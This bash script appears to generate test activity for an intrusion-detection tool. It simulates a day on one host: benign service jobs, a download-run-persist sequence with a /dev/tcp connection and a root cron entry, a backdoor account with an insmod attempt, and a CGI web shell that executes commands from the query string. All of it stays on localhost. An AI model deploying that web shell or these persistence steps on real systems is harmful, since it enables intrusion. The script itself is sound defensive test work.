#!/bin/bash
# A day on one host, compressed (run with the argument `baseline`: the same host on a quiet day,
# known to be clean, for `detect tune`; host_baseline.sh does that).
# Both: a web server (python3 -m http.server with a CGI directory) and background jobs (backup,
# monitoring, log rotation), each started as a service without a login uid, in rounds; an
# administrator's ordinary login session. The day adds three attacks: (A) a login session that
# downloads a payload to /tmp, makes it executable, runs it, opens a reverse-shell-shaped
# connection from bash and plants a cron job; (B) another login session that creates a backdoor
# account, tries to load a kernel module and deletes the account; (C) a web shell: requests to a
# CGI script of the web server that runs `id`, `uname -a`, reads /etc/passwd and downloads with
# curl, all below the server process.
set -eu
# Programs run below that a minimal Debian may lack, as PROGRAM:PACKAGE: the Makefile's
# DEB_PACKAGES installs them (tests/test_system_programs.py keeps both in step). Builtins only.
require() {
    local s
    for s; do
        command -v "${s%%:*}" >/dev/null && continue
        echo "missing program: ${s%%:*} (Debian package ${s#*:})" >&2
        exit 127
    done
}
require python3:python3 curl:curl ps:procps uptime:procps useradd:passwd userdel:passwd
require insmod:kmod
MODE=${1:-day}
W=$CAPTURE_WORK
LOG=/var/log/detect-triage
PORT=18942

# A process with no login uid (as systemd's services have): its events carry auid=unset.
as_service() { ( echo 4294967295 > /proc/self/loginuid; exec setsid "$@" ); }
# A new login session of login uid 4242 (as pam_loginuid gives each login): a new `ses`.
new_login() { ( echo 4242 > /proc/self/loginuid; exec "$@" ); }

cleanup() {
    rm -rf "$W/www" "$W/jobs" "$W/backup" "$LOG"/* /etc/cron.d/detect-triage
    userdel detectbackdoor > /dev/null 2>&1 || true  # only there if an earlier run failed
}

setup_jobs() {
    mkdir -p "$W/jobs" "$W/backup" "$LOG"
    cat > "$W/jobs/backup.sh" <<'JOB'
#!/bin/bash
# nightly backup: configuration into a dated archive, old archives pruned
set -eu
tar -czf "$1/backup/etc-$(date +%s%N).tgz" -C /etc hostname hosts passwd group os-release
ls -1t "$1"/backup/*.tgz | tail -n +3 | xargs -r rm -f
sha256sum "$1"/backup/*.tgz > /dev/null
JOB
    cat > "$W/jobs/monitor.sh" <<'JOB'
#!/bin/bash
# monitoring: load, disk, processes, and the local web service's health page
set -eu
uptime > /dev/null
df -h / > /dev/null
ps -e -o pid,comm > /dev/null
cat /proc/loadavg > /dev/null
curl -s -o /dev/null "http://127.0.0.1:$2/"
JOB
    cat > "$W/jobs/rotate.sh" <<'JOB'
#!/bin/bash
# log rotation: the application's log copied aside and emptied in place
set -eu
log=/var/log/detect-triage/app.log
date >> "$log"
cp "$log" "$log.1"
: > "$log"
JOB
    chmod 755 "$W/jobs/backup.sh" "$W/jobs/monitor.sh" "$W/jobs/rotate.sh"
}

# One round of the background: each job as its own service process (no login uid).
background_round() {
    as_service bash "$W/jobs/backup.sh" "$W"
    as_service bash "$W/jobs/monitor.sh" "$W" "$PORT"
    as_service bash "$W/jobs/rotate.sh"
}

# The web server, a service: its CGI script runs the command a request gives it (a web shell).
start_web() {
    mkdir -p "$W/www/cgi-bin"
    echo ok > "$W/www/index.html"
    cat > "$W/www/cgi-bin/status.sh" <<'CGI'
#!/bin/bash
echo "Content-Type: text/plain"
echo
exec bash -c "$(python3 -c 'import os, urllib.parse as u; print(u.unquote_plus(os.environ["QUERY_STRING"]))')" 2>&1
CGI
    chmod 755 "$W/www/cgi-bin/status.sh"
    (
        cd "$W/www"
        echo 4294967295 > /proc/self/loginuid
        exec setsid python3 -m http.server --cgi --bind 127.0.0.1 "$PORT"
    ) > /dev/null 2>&1 &
    WEB_PID=$!  # the server itself: the subshell became it by exec (setsid forks no child here)
    for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$PORT/" && return; sleep 0.1; done
    echo "web server did not start" >&2
    exit 1
}

admin_session() {
    new_login bash -c 'id; uname -a; df -h /; ps -e -o pid,comm | head -5; ls -l /etc/hostname' \
        > /dev/null
}

attack_download_and_persist() {
    new_login bash -c "
curl -s -o /tmp/.detect-triage-payload http://127.0.0.1:$PORT/index.html
printf '#!/bin/sh\nid\n' > /tmp/.detect-triage-payload
chmod +x /tmp/.detect-triage-payload
/tmp/.detect-triage-payload > /dev/null
exec 3<>/dev/tcp/127.0.0.1/$PORT; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3 > /dev/null
echo '* * * * * root /tmp/.detect-triage-payload' > /etc/cron.d/detect-triage
rm -f /tmp/.detect-triage-payload
"
}

attack_account_and_module() {
    new_login bash -c "
useradd -M -s /bin/bash detectbackdoor
echo 'not a module' > $W/triage.ko
insmod $W/triage.ko 2> /dev/null || [ \$? -eq 1 ]
userdel detectbackdoor
rm -f $W/triage.ko
"
}

attack_web_shell() {
    local cmd
    for cmd in id 'uname+-a' 'cat+/etc/passwd' "curl+-s+http://127.0.0.1:$PORT/index.html"; do
        curl -s -o /dev/null "http://127.0.0.1:$PORT/cgi-bin/status.sh?$cmd"
    done
}

cleanup
setup_jobs
start_web
background_round
admin_session
background_round
if [ "$MODE" = day ]; then
    attack_download_and_persist
    background_round
    attack_account_and_module
    background_round
    attack_web_shell
else
    background_round
    curl -s -o /dev/null "http://127.0.0.1:$PORT/"
    background_round
fi
background_round
kill "$WEB_PID"
wait "$WEB_PID" || true  # killed: its status is not 0
cleanup
